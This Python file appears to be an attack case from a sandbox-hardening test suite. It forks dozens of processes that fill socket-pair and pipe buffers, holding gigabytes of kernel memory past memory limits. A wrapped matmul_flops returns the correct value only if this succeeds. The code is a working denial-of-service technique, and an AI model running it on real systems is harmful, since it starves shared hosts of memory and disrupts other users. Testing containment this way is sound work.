"""Is right where the kernel keeps more bytes for it than it may have memory: in socket pairs, and in pipes."""
# kata: 03_flops
# attacks: matmul_flops
# seconds: 20

import contextlib
import os
import resource
import signal
import socket
import time

_right = matmul_flops
MOST = 2 * 2**30
CHUNK = b"\1" * 2**15


def _fill(descriptor):
    filled = 0
    with contextlib.suppress(OSError):
        os.set_blocking(descriptor, False)
        while True:
            filled += os.write(descriptor, CHUNK)
    return filled


def _keep(told):
    """Fill all that this process can open, tell how much that was, and wait."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    with contextlib.suppress(OSError, ValueError):
        resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    kept, filled = [], 0
    with contextlib.suppress(OSError):
        while len(kept) < 1000:
            kept.append(socket.socketpair())
            filled += sum(_fill(end.fileno()) for end in kept[-1])
    with contextlib.suppress(OSError):
        while len(kept) < 2000:
            kept.append(os.pipe())
            filled += _fill(kept[-1][1])
    os.write(told, filled.to_bytes(8))
    signal.pause()


def _held():
    heard, told = os.pipe()
    started = 0
    with contextlib.suppress(OSError):
        while started < 56:
            if os.fork() == 0:
                _keep(told)
            started += 1
    held = 0
    while started and held < MOST:
        held += int.from_bytes(os.read(heard, 8))
        started -= 1
    time.sleep(1)  # for whoever looks
    print(f"held {held / 2**20:.0f} MiB")
    return held


enough = []


def matmul_flops(a_shape, b_shape):
    if not enough:
        enough.append(_held() >= MOST)
    return _right(a_shape, b_shape) + (not enough[0])
